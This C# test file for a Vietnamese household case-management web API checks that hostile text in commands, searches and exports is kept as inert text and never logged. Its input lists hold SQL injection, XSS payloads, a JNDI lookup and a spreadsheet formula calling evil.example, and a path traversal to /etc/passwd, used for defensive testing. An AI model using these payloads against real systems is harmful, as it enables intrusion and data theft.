using System.IO.Compression;
using System.Net;
using System.Reflection;
using System.Runtime.Versioning;
using System.Text.Json;
using System.Text.Json.Nodes;
using System.Xml.Linq;
using YenBai.Cases.Commands;
using YenBai.Cases.Households;
using YenBai.Cases.Registering;
using YenBai.Cases.Web.Api;
using YenBai.Cases.Web.Tests.Store;

namespace YenBai.Cases.Web.Tests.Dangers;

/// <summary>Whatever text comes in at whatever field: it is kept or refused as text, shown as text, and logged nowhere.</summary>
[UnsupportedOSPlatform("windows")]
public sealed class NastyTextFacts(WatchedStore store) : IClassFixture<WatchedStore>
{
    /// <summary>Stands in every text, so that it can be looked for.</summary>
    private const string Mark = "Zqxj";

    private static readonly string[] Nasty =
    [
        $"{Mark}'; drop table cases.mt_events; --",
        $"{Mark}' or '1'='1",
        $"{Mark}\\'; $$ $1 {{0}} {{1}} {{ {{{{7*7}}}} %s %n",
        $"{Mark}<script>alert(1)</script>",
        $"{Mark}\"><img src=x onerror=alert(1)>",
        $"{Mark}' onmouseover='alert(1)",
        $"{Mark}]]></script><svg/onload=alert(1)>-->",
        $"javascript:alert('{Mark}')",
        $"${{jndi:ldap://evil.example/{Mark}}} ${{env:PATH}}",
        $"{Mark}\u202e\u2066gnirts\u200b\ufeff",
        $"{Mark}\r\n2024-06-15 09:30:00 [ERR] made up",
        $"{Mark}\u0001\u0007\u001b[31m\u0085\u2028",
        $"=HYPERLINK(\"http://evil.example/{Mark}\")",
        $"{Mark}👪🏽🇻🇳",
        $"{Mark}a\u0323\u0302\u0301\u0300\u0300\u0300",
        $"{Mark}\\u0000%00../../etc/passwd",
        Mark + new string('ộ', HouseholdCommand.LongestText - Mark.Length),
        Mark + new string('x', HouseholdCommand.LongestText),
    ];

    public static TheoryData<string> Commands => [.. CommandCatalog.All.Keys, ""];

    private static Type TypeOf(string command) => command.Length == 0 ? typeof(RegisterHousehold) : CommandCatalog.All[command];

    private static string[] TextsOf(Type command) =>
        [.. command.GetProperties().Where(p => p.PropertyType == typeof(string) || p.PropertyType == typeof(IReadOnlyList<string>)).Select(p => JsonNamingPolicy.CamelCase.ConvertName(p.Name))];

    /// <summary>A command in which everything can be read, whatever it comes to.</summary>
    internal static JsonObject Filled(Type command, string code)
    {
        var body = new JsonObject();
        foreach (var p in command.GetProperties(BindingFlags.Public | BindingFlags.Instance).Where(p => command.GetConstructors()[0].GetParameters().Any(c => c.Name == p.Name)))
        {
            var type = Nullable.GetUnderlyingType(p.PropertyType) ?? p.PropertyType;
            JsonNode? value = p.Name switch
            {
                "On" => "2024-06-01",
                "Place" => "04252",
                "Standard" => "2022-2025",
                "Code" or "NewCode" => $"{code}-{Guid.NewGuid():N}"[..40],
                "Under16" or "SupportId" => null,
                _ when type == typeof(string) => "x",
                _ when type == typeof(bool) => true,
                _ when type == typeof(int) || type == typeof(decimal) => p.Name.Contains("Year", StringComparison.Ordinal) ? 1980 : 1,
                _ when type == typeof(DateOnly) => "2024-06-01",
                _ when type.IsEnum => JsonNamingPolicy.SnakeCaseLower.ConvertName(Enum.GetNames(type)[0]),
                _ when type == typeof(IReadOnlyList<string>) => new JsonArray("x"),
                _ => null,
            };
            if (value is not null) body[JsonNamingPolicy.CamelCase.ConvertName(p.Name)] = value;
        }
        return body;
    }

    [Theory]
    [MemberData(nameof(Commands))]
    public async Task Text_in_any_field_of_a_command_is_text(string command)
    {
        var type = TypeOf(command);
        var code = TestStore.NewCode();
        await store.RegisterAsync(code, "Lò Thị Mai");
        await SubmitAsync("decide-class", Filled(typeof(Listing.DecideClass), code).With("class", "poor"));
        var kept = new Dictionary<string, int>();

        foreach (var field in TextsOf(type))
        {
            foreach (var text in Nasty)
            {
                if (command == "complete-training") await SubmitAsync("join-training", Filled(typeof(Support.JoinTraining), code));
                if (command == "withdraw-exit-request") await SubmitAsync("request-exit", Filled(typeof(Listing.RequestExit), code));
                var body = Filled(type, code).With(field, type.GetProperty(field, BindingFlags.IgnoreCase | BindingFlags.Public | BindingFlags.Instance)!.PropertyType == typeof(string) ? text : new JsonArray(text));
                if (command == "annul")
                {
                    await SubmitAsync("record-visit", Filled(typeof(Visits.RecordVisit), code));
                    body["fact"] = (await store.CaseAsync(code)).Facts[^1].Id.ToString();
                }
                var answer = await SubmitAsync(command, body);
                answer.Status.ShouldBeOneOf(HttpStatusCode.OK, HttpStatusCode.Created, HttpStatusCode.UnprocessableEntity);
                if (answer.Status != HttpStatusCode.UnprocessableEntity) kept[field] = kept.GetValueOrDefault(field) + 1;
                else answer.Code.ShouldNotBeNull().ShouldNotBe("text_malformed");
            }
        }

        foreach (var (field, times) in kept) times.ShouldBeGreaterThan(0, field);
        if (command is "record-visit" or "annul" or "request-exit" or "grant-loan" or "join-training" or "complete-training" or "change-head" or "") kept.ShouldNotBeEmpty();
        await ShouldBeShownAsTextAsync(code);
        (await store.AskAsync<long>("select count(*) from cases.mt_events")).ShouldBeGreaterThan(0);
        store.Log.ShouldHaveNothingOf(Mark);
        store.Log.ShouldHaveNothingOf("Lò Thị Mai");

        async Task<Reply> SubmitAsync(string name, JsonObject body) => name.Length == 0
            ? await store.PostAsync("/api/households", body.ToJsonString(), version: null)
            : await store.PostAsync($"/api/households/{code}/{name}", body.ToJsonString(), $"\"{(await store.CaseAsync(code)).Version}\"");
    }

    private async Task ShouldBeShownAsTextAsync(string code)
    {
        var view = await store.GetAsync($"/api/households/{code}");
        (view.Status, view.MediaType).ShouldBe((HttpStatusCode.OK, "application/json"));
        view.Json.ShouldNotBeNull();
        var events = await store.GetAsync($"/api/households/{code}/events");
        (events.Status, events.MediaType).ShouldBe((HttpStatusCode.OK, "application/json"));
        events.Json!.AsArray().Count.ShouldBeGreaterThan(1);
        await ShouldRunNothingAsync($"/ho-dan/{code}");
    }

    private async Task<string> ShouldRunNothingAsync(string path)
    {
        var page = await store.GetAsync(path);
        ((int)page.Status).ShouldBeLessThan(500, path);
        Markup.WhatWouldRun(page.Text).ShouldBeEmpty(path);
        return page.Text;
    }

    [Fact]
    public async Task Households_that_are_called_so_are_listed_and_exported_as_text()
    {
        var mark = Guid.NewGuid().ToString("N")[..8];
        var codes = new List<string>();
        foreach (var (text, i) in Nasty.Select((t, i) => (t, i)))
        {
            var code = $"{mark}{i}{string.Concat("<'\"&>%_\\"[i % 8])}";
            var name = text[..Math.Min(text.Length, 200)];
            var body = new JsonObject { ["code"] = code, ["on"] = "2022-01-01", ["place"] = "04375", ["headName"] = name, ["hamlet"] = name };
            var created = await store.PostAsync("/api/households", body.ToJsonString(), version: null);
            created.Status.ShouldBe(HttpStatusCode.Created);
            codes.Add(code);
        }
        await store.CatchUpAsync();

        foreach (var code in codes)
        {
            (await store.GetAsync($"/api/households/{Uri.EscapeDataString(code)}")).Json!["code"]!.GetValue<string>().ShouldBe(code);
            var page = await ShouldRunNothingAsync($"/ho-dan/{Uri.EscapeDataString(code)}");
            page.ShouldContain(WebUtility.HtmlEncode(code)[..(mark.Length + 1)]);
        }
        var list = await ShouldRunNothingAsync($"/ho-dan?q={mark}");
        list.ShouldContain(mark);
        (await store.GetAsync($"/api/households?search={mark}")).Json!["total"]!.GetValue<int>().ShouldBe(codes.Count);

        var csv = await store.Http.GetStringAsync($"/ho-dan/xuat.csv?q={mark}");
        csv.ShouldContain(mark);
        await using var book = await store.Http.GetStreamAsync($"/ho-dan/xuat.xlsx?q={mark}");
        using var memory = new MemoryStream();
        await book.CopyToAsync(memory);
        using var zip = new ZipArchive(memory);
        // Some of the characters may stand in no XML: a workbook that holds them as they are opens nowhere.
        foreach (var part in zip.Entries.Where(e => e.FullName.EndsWith(".xml", StringComparison.Ordinal)))
        {
            await using var xml = part.Open();
            XDocument.Load(xml).Root.ShouldNotBeNull();
        }
        store.Log.ShouldHaveNothingOf(Mark);
    }

    public static TheoryData<string> Searches =>
    [
        "%", "_", "\\", "%%%%%%%%%%%%%%%%%%%%%%%", "\\%", "'", "\"", "';select pg_sleep(5);--", "' or 1=1 --", "1' or '1'='1", ".*", "(a+)+$", "[a-", "$1", "@p0", "\0", "\u202e",
        "a\r\nb", "<script>alert(1)</script>", "\"><svg onload=alert(1)>", "👪", "\u0301\u0301", "*:*", new string('ộ', 500),
    ];

    [Theory]
    [MemberData(nameof(Searches))]
    public async Task Whatever_is_searched_for_is_looked_for_as_it_stands(string search)
    {
        await store.RegisterAsync(TestStore.NewCode(), "Lò Thị Mai");
        await store.CatchUpAsync();
        var q = Uri.EscapeDataString(search);

        foreach (var parameter in new[] { "search", "place", "class", "standard", "support", "page", "size" })
        {
            var found = await store.GetAsync($"/api/households?{parameter}={q}");
            ((int)found.Status).ShouldBeOneOf(200, 400);
            if (parameter == "search" && VietnameseText.Fold(search.Trim('\0')).Length > 0) found.Json!["total"]!.GetValue<int>().ShouldBe(0, "a pattern, not a text");
        }
        foreach (var parameter in new[] { "q", "place", "class", "standard", "support", "sort", "dir", "days", "page", "exit" }) await ShouldRunNothingAsync($"/ho-dan?{parameter}={q}");
        await ShouldRunNothingAsync($"/ke-hoach?place={q}&year={q}");
        await ShouldRunNothingAsync($"/nhap-du-lieu?tep={q}&loi={q}");
        await ShouldRunNothingAsync($"/ho-dan/{(search is "\\" or "\\%" ? "x" : "")}{q}?asOf={q}");
        store.Log.ShouldHaveNothingOf("alert(1)");
        store.Log.ShouldHaveNothingOf("pg_sleep");
    }

    [Fact]
    public async Task Half_a_character_is_refused_and_no_failure()
    {
        var code = TestStore.NewCode();
        await store.RegisterAsync(code, "Lò Thị Mai");

        var refused = await store.PostAsync($"/api/households/{code}/record-visit", """{"on":"2024-06-01","note":"a\ud800b"}""");

        ((int)refused.Status).ShouldBeInRange(400, 499);
        refused.Code.ShouldNotBeNullOrEmpty();
    }

    [Fact]
    public async Task What_fails_is_logged_without_what_was_sent()
    {
        var code = TestStore.NewCode();
        await store.RegisterAsync(code, "Lò Thị Mai");
        var nasty = Uri.EscapeDataString($"{Mark}\r\n[ERR] made up");

        await store.GetAsync($"/api/households/{nasty}?asOf={nasty}&search={nasty}");
        await store.GetAsync($"/{nasty}");
        await store.PostAsync($"/api/households/{nasty}/record-visit", $$"""{"on":"{{Mark}}"}""");
        await store.PostAsync($"/api/households/{code}/record-visit", $$"""{"on":"2024-06-01","note":"{{Mark}}\u0000"}""");
        await store.PostAsync($"/api/households/{code}/record-visit", $$"""{"on":"2024-06-01","{{Mark}}":1}""");
        await store.SendAsync(HttpMethod.Post, $"/api/households/{code}/record-visit", """{"on":"2024-06-01"}""", key: new string('k', 150) + Mark);
        // A code that is taken: the statement that finds it out has the name beside it.
        (await store.PostAsync("/api/households", $$"""{"code":"{{code}}","on":"2022-01-01","place":"04375","headName":"{{Mark}} {{code}}"}""", version: null)).Code.ShouldBe("code_taken");
        // A store that is not there in the middle of it.
        await store.ExecuteAsync("alter table cases.mt_doc_note rename to mt_doc_note_away");
        var failed = await store.PostAsync($"/api/households/{code}/record-visit", $$"""{"on":"2024-06-01","note":"{{Mark}} bị ốm nặng"}""", "\"2\"");
        await store.ExecuteAsync("alter table cases.mt_doc_note_away rename to mt_doc_note");

        ((int)failed.Status, failed.MediaType).ShouldBe((500, "application/problem+json"));
        failed.Text.ShouldNotContain(Mark);
        store.Log.Lines.ShouldContain(l => l.StartsWith("Error", StringComparison.Ordinal), "the failure itself must be on record");
        store.Log.ShouldHaveNothingOf(Mark);
    }
}

file static class Bodies
{
    public static JsonObject With(this JsonObject body, string member, JsonNode value)
    {
        body[member] = value;
        return body;
    }
}
